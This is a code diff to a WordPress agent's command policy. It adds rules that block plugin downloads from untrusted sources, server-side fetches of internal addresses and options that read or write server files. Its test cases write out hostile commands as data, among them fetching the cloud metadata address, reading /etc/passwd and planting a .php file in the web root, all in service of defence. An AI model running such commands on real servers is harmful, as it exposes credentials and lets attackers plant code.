@@ -14,6 +14,7 @@ from urllib.parse import urlsplit
 
 from wp_agent.command_line.parsed_command import ParsedCommand
 from wp_agent.policy.categories import PolicyCategory
+from wp_agent.policy.command_grammar import synopsis_of
 from wp_agent.policy.rule import DIGITS, ID_RANGE, SLUG, Verdict, argument_rule
 
 B = PolicyCategory.BLOCKED
@@ -58,11 +59,17 @@ def post_content_sources(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict |
         "plugin install https://evil.example/x.zip",
         "theme install ./t.zip",
         "plugin install akismet --insecure",
+        "plugin download https://evil.example/x.zip",
+        "theme download twentytwelve --insecure",
     ),
-    not_match=("plugin install akismet", "theme install twentytwentythree --activate"),
+    not_match=(
+        "plugin install akismet",
+        "theme install twentytwentythree --activate",
+        "plugin download bbpress",
+    ),
 )
 def install_source(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
-    if path not in {("plugin", "install"), ("theme", "install")}:
+    if path[:1] not in {("plugin",), ("theme",)} or path[1:] not in {("install",), ("download",)}:
         return None
     kind = "プラグイン" if path[0] == "plugin" else "テーマ"
     if cmd.has_flag("insecure"):
@@ -140,14 +147,19 @@ def media_source(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
         )
     # The literal checks here answer early; SafeDownloader checks every resolved address and
     # redirect when the agent downloads the file (WordPress itself never fetches it).
+    return _web_sources(cmd.args_after(path), MEDIA_PRIVATE_HOST_RULE, "取り込めません")
+
+
+def _web_sources(sources: list[str] | tuple[str, ...], private_rule: str, verb: str) -> Verdict | None:
+    """Every source a public web address (http(s), an ASCII host name, a web port), or the refusal."""
     refused: list[str] = []
-    for source in cmd.args_after(path):
+    for source in sources:
         parts = urlsplit(source)
         if parts.scheme not in {"http", "https"} or not parts.hostname:
             return Verdict(
                 B,
                 "blocked.media_source",
-                f"メディアは http(s) のURLからのみ取り込めます（サーバー上のファイルは不可）: {source}",
+                f"http(s) のURLからのみ{verb}（サーバー上のファイルは不可）: {source}",
                 source,
             )
         if not parts.hostname.isascii():
@@ -168,7 +180,87 @@ def media_source(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
         return None
     return Verdict(
         B,
-        MEDIA_PRIVATE_HOST_RULE,
-        f"内部ネットワークのアドレスや特殊なポートからは取り込めません: {', '.join(refused)}",
-        ",".join(refused),  # every refused host:port (an explicit test setting may allow them)
+        private_rule,
+        f"内部ネットワークのアドレスや特殊なポートからは{verb}: {', '.join(refused)}",
+        ",".join(refused),  # every refused host:port (an explicit test setting may allow media's)
     )
+
+
+# What the server itself fetches because of a command: the URL arguments and options by path. Approval
+# does not make an inward fetch acceptable, so these are refused whatever the category.
+_SERVER_FETCHES: dict[tuple[str, ...], tuple[str, ...]] = {
+    ("media", "replace"): ("file",),
+    ("embed", "fetch"): ("url",),
+    ("embed", "provider", "match"): ("url",),
+    ("font", "face", "install"): ("--src",),
+}
+SERVER_FETCH_PRIVATE_RULE = "blocked.server_fetch_private_host"
+
+
+@argument_rule(
+    match=(
+        "media replace 5 /etc/passwd",
+        "media replace 5 http://127.0.0.1/x.png",
+        "embed fetch http://169.254.169.254/latest/meta-data/",
+        "embed provider match http://10.1.2.3/",
+        "font face install 42 --src=file:///etc/passwd",
+    ),
+    not_match=(
+        "media replace 5 https://example.com/new.png",
+        "embed fetch https://www.youtube.com/watch?v=dQw4w9WgXcQ",
+        "font face install 42 --src=https://example.com/a.woff2",
+    ),
+)
+def server_fetches(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
+    if path not in _SERVER_FETCHES:
+        return None
+    return _web_sources(
+        server_fetched(cmd, path), SERVER_FETCH_PRIVATE_RULE, "サーバーに取得させることはできません"
+    )
+
+
+def server_fetched(cmd: ParsedCommand, path: tuple[str, ...]) -> list[str]:
+    """The URLs the server itself fetches because of this command (the policy also resolves their host
+    names when it decides: a public-looking name may point inside)."""
+    args = cmd.args_after(path)
+    synopsis = synopsis_of(path)
+    sources: list[str] = []
+    for name in _SERVER_FETCHES.get(path, ()):
+        if name.startswith("--"):
+            sources += cmd.option_values(name[2:])
+        elif synopsis is not None:
+            at = [a.name for a in synopsis.arguments].index(name)
+            sources += args[at : at + 1]
+    return sources
+
+
+# Placeholders of option values that name a file or directory on the server (`--file=<file>`,
+# `--target-path=<path>`, `--config-file=<path>`): writing or reading there is outside every command's
+# declared effect, whatever the command (a block export written as a .php file in the web root is code).
+_SERVER_FILE_PLACEHOLDERS = frozenset({"file", "path", "dir", "directory", "filename"})
+
+
+@argument_rule(
+    match=(
+        "post block export 5 --file=/var/www/html/x.php",
+        "post block import 5 --file=/etc/passwd",
+        "plugin download bbpress --target-path=/var/www/html",
+        "search-replace a b --export=/tmp/x.sql",
+    ),
+    not_match=("post block export 5 --format=json", "plugin download bbpress", "plugin path akismet --dir"),
+)
+def server_files(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
+    synopsis = synopsis_of(path)
+    if synopsis is None:
+        return None
+    for option in cmd.options:
+        declared = synopsis.options.get(option.name)
+        if declared is not None and declared.placeholder in _SERVER_FILE_PLACEHOLDERS:
+            return Verdict(
+                B,
+                "blocked.server_file_option",
+                f"サーバー上のファイルやディレクトリを指定するオプション（--{option.name}）は使用できません。"
+                "結果は画面への出力で受け取ってください",
+                f"--{option.name}",
+            )
+    return None
